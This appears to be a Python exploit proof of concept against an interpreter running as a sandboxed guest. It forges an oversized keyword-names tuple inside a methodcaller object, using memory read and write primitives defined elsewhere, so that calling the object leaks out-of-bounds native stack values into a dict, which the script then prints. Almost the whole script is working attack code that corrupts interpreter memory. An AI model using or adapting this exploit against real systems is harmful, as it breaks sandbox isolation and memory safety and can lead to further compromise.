# A tuple of keyword names is longer than the values of the call, which are on the native stack.
from operator import methodcaller
import struct
class D(dict): pass
class A: pass
a = A(); a.p = D
m = methodcaller("p", k=3)
strs = ["n%d" % i for i in range(64)]
for i in range(1, 8):
    v = r8(id(m) + 8 * i)
    if v >> 48 == 0xFFF9:
        at = v & 0xFFFFFFFF
        if r4(at) == r4(id((1,2))) and r4(at + 4) == 1: slot, names = id(m) + 8 * i, at
fake = (r4(names) | 60 << 32).to_bytes(8, "little") + b"".join(ref(id(s)).to_bytes(8, "little") for s in strs)
hold = bytes(8) + fake
w8(slot, ref(id(hold) + 24))
d = m(a)
# read the bits of the values in the dict's entries: nothing of the guest touches them
entries = r4(id(d) + 8)
print("len", len(d))
for i in range(len(d)):
    print(hex(r8(entries + 8 + 24 * i + 8)), end=" ")
print()
